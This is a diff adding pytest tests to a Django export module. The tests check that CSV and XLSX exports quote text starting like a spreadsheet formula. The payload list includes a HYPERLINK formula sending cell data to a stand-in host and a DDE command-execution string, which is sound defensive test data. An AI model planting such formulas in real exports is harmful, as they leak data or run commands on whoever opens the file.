@@ -11,6 +11,8 @@ from types import GeneratorType
 import pytest
 from django.http import FileResponse, StreamingHttpResponse
 from frictionless import Package
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from openpyxl import load_workbook
 
 from lanterne.core.exports import (
@@ -240,3 +242,142 @@ def test_datapackage_is_valid(tmp_path):
     assert fields[0]["title"] == "Nom de la structure"
     report = Package(str(tmp_path / "datapackage.json")).validate()
     assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
+
+
+# ---------------------------------------------------------------------------------------------
+# Formula injection (OWASP "CSV injection"): a text never becomes a formula
+# ---------------------------------------------------------------------------------------------
+
+FORMULA_PAYLOADS = [
+    '=HYPERLINK("http://example.invalid/?d="&A1,"Cliquez")',
+    "=1+1",
+    "+33 1 23 45 67 89",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
+TEXT_COLUMNS = [Column("name", "Nom"), Column("count", "Séances", INTEGER)]
+
+
+def _one_row_table(name):
+    return Table("t", TEXT_COLUMNS, [{"name": name, "count": 1}], header=False)
+
+
+@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
+@pytest.mark.parametrize("dialect", [SPREADSHEET_FR, OPEN_DATA])
+def test_csv_text_starting_like_a_formula_is_quoted(payload, dialect):
+    """A text starting with =, +, -, @, a tab or a carriage return is prefixed with a quote: a
+    spreadsheet shows it as text instead of computing it."""
+    text = b"".join(write_csv(_one_row_table(payload), dialect)).decode().lstrip("\ufeff")
+    [row] = list(csv.reader(io.StringIO(text, newline=""), delimiter=dialect.delimiter))
+    if dialect is OPEN_DATA:  # its lines end with "\n": a carriage return is one too
+        payload = payload.replace("\r", "\n")
+    assert row == ["'" + payload, "1"]
+
+
+@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
+def test_xlsx_text_starting_like_a_formula_is_a_text_cell(payload):
+    """In the workbook the same text is a string cell (never a formula), quoted as in the CSV."""
+    handle = write_xlsx(_one_row_table(payload))
+    try:
+        sheet = load_workbook(handle).active
+    finally:
+        handle.close()
+    assert sheet["A1"].data_type == "s"
+    # XML reads a carriage return back as a line feed.
+    assert sheet["A1"].value == "'" + payload.replace("\r", "\n")
+    assert sheet["B1"].value == 1
+
+
+@pytest.mark.parametrize("text", ["Ciné = lumière", "Projet -2", "a@b.fr", "'déjà cité'", ""])
+def test_ordinary_text_is_left_alone(text):
+    """Only a formula's first character triggers the quote."""
+    line = b"".join(write_csv(_one_row_table(text), OPEN_DATA)).decode()
+    assert next(csv.reader(io.StringIO(line))) == [text, "1"]
+
+
+def test_xlsx_text_looking_like_an_error_code_or_holding_control_characters():
+    """ "#N/A" stays a text, and a control character XML forbids is dropped instead of making
+    the whole workbook fail."""
+    table = Table("t", TEXT_COLUMNS[:1], [{"name": "#N/A"}, {"name": "Ciné\x0bclub\x01"}])
+    handle = write_xlsx(table)
+    try:
+        sheet = load_workbook(handle).active
+    finally:
+        handle.close()
+    assert (sheet["A2"].data_type, sheet["A2"].value) == ("s", "#N/A")
+    assert sheet["A3"].value == "Cinéclub"
+
+
+NUMBER_COLUMNS = [
+    Column("count", "n", INTEGER),
+    Column("amount", "m", MONEY),
+    Column("rate", "d", DECIMAL),
+    Column("share", "r", RATIO),
+    Column("day", "j", DATE),
+]
+
+
+@given(
+    count=st.integers(min_value=-(10**12), max_value=10**12),
+    amount=st.decimals(min_value=-(10**9), max_value=10**9, places=2),
+    rate=st.decimals(min_value=-(10**6), max_value=10**6, places=3),
+    share=st.floats(min_value=-1, max_value=1, allow_nan=False),
+    day=st.dates(min_value=datetime.date(1900, 3, 1)),
+)
+@settings(max_examples=50, deadline=None)
+def test_numbers_stay_numbers(count, amount, rate, share, day):
+    """Negative numbers start with "-" but are values: neither the CSV nor the workbook quotes
+    them, and the workbook keeps them as numbers and days."""
+    row = {"count": count, "amount": amount, "rate": rate, "share": share, "day": day}
+    table = Table("t", NUMBER_COLUMNS, [row], header=False)
+    [cells] = list(csv.reader(io.StringIO(b"".join(write_csv(table, OPEN_DATA)).decode())))
+    assert not any(cell.startswith("'") for cell in cells)
+    assert int(cells[0]) == count
+    assert Decimal(cells[1]) == amount
+    assert Decimal(cells[2]) == rate
+    assert float(cells[3]) == pytest.approx(share)
+    assert cells[4] == day.isoformat()
+    handle = write_xlsx(table)
+    try:
+        values = next(load_workbook(handle).active.iter_rows(values_only=True))
+    finally:
+        handle.close()
+    assert values[0] == count
+    assert values[1] == pytest.approx(float(amount))
+    assert values[2] == pytest.approx(float(rate))
+    assert values[3] == pytest.approx(share)
+    assert values[4] == datetime.datetime(day.year, day.month, day.day)
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_call_export_quotes_a_dossier_title_written_as_a_formula(login, fmt):
+    """An applicant's title is data: in the call's dossiers export for the committee, a title
+    written as a formula arrives quoted, as text, and the amounts stay numbers."""
+    from django.urls import reverse
+
+    from tests.calls.factories import call_coordinator
+    from tests.dossiers.factories import DossierFactory
+
+    title = '=HYPERLINK("http://example.invalid/?"&B2,"Voir le dossier")'
+    dossier = DossierFactory(state="submitted", title=title)
+    client = login(call_coordinator(dossier.call))
+    response = client.get(reverse("calls:export", args=[dossier.call.slug, fmt]))
+    assert response.status_code == 200
+    content = b"".join(response.streaming_content)
+    if fmt == "csv":
+        [row] = list(csv.DictReader(io.StringIO(content.decode()[1:]), delimiter=";"))
+        assert row["Titre du projet"] == "'" + title
+        assert row["Demande DRAC (€)"] == "4000,00"
+        return
+    if response.file_to_stream is not None:
+        response.file_to_stream.close()
+    sheet = load_workbook(io.BytesIO(content)).active
+    header = [cell.value for cell in sheet[1]]
+    cells = dict(zip(header, sheet[2], strict=True))
+    assert cells["Titre du projet"].data_type == "s"
+    assert cells["Titre du projet"].value == "'" + title
+    assert cells["Demande DRAC (€)"].value == 4000
